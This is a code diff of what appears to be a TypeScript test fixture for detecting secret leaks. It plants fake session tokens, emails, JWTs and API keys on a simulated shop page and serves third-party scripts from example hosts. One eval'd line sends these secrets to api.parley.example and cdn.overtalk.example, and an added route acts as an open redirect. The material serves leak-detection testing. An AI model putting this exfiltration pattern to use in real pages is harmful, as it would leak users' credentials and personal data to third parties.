@@ -1,3 +1,6 @@
+import type { Routes } from '../../internet/routes.ts';
+import { askWithIdentifiers, type Planted, plantingCode } from './planted.ts';
+
 /** Twenty kinds of secret that a logged-in page may show, each unlike any other text in the test. */
 export const secrets = {
   sessionToken: 'sess8f3kq02mzx91bvltr7w4ypn6dcau5',
@@ -21,13 +24,6 @@ export const secrets = {
   address: '221B Upper Candlemaker Row',
   ipAddress: '203.0.113.87',
 } as const;
-
-/** What must stand nowhere: each secret plain, percent-encoded, in base64 and in pieces of its own. */
-export function formsOf(secret: string): string[] {
-  const base64 = Buffer.from(secret).toString('base64').replace(/=+$/, '');
-  // The last characters of base64 depend on what follows.
-  return [secret, encodeURIComponent(secret), base64.slice(0, -2)];
-}
 
 const s = secrets;
 const q = encodeURIComponent;
@@ -92,3 +88,28 @@ const act = {
 setTimeout(() => Object.values(act).forEach((one) => one()), 900);
 setTimeout(() => (0, eval)("document.body.setAttribute('class','x-${s.email}');fetch('https://api.parley.example/e/${s.customerId}',{mode:'no-cors'})\\n//# sourceURL=https://cdn.overtalk.example/${s.email}/${s.jwt}.js?k=${s.apiKey}"), 1200);
 `;
+
+/** The page, and the servers that it speaks to, with these secrets as well. */
+export function plantedRoutes(planted: readonly Planted[]): Routes {
+  const site = `<script>${plantingCode(planted, 'site', 400)}</script></body>`;
+  const landed = { status: 204, headers: { 'access-control-allow-origin': '*' }, body: '' };
+  return {
+    'shop.example': {
+      '/*': { headers: { 'content-type': 'text/html' }, body: accountPage.replace('</body>', () => site) },
+    },
+    'cdn.parley.example': {
+      '/parley.js': { body: `${parleyScript}${askWithIdentifiers}${plantingCode(planted, 'chat', 200)}` },
+    },
+    'cdn.overtalk.example': {
+      '/tag.js': { body: `${overtalkScript}${plantingCode(planted, 'other', 500)}` },
+    },
+    'api.parley.example': {
+      '/*': landed,
+      '/redirect*': ({ path }) => ({
+        ...landed,
+        status: 302,
+        headers: { location: new URL(path, 'https://api.parley.example').searchParams.get('to') ?? '/' },
+      }),
+    },
+  };
+}
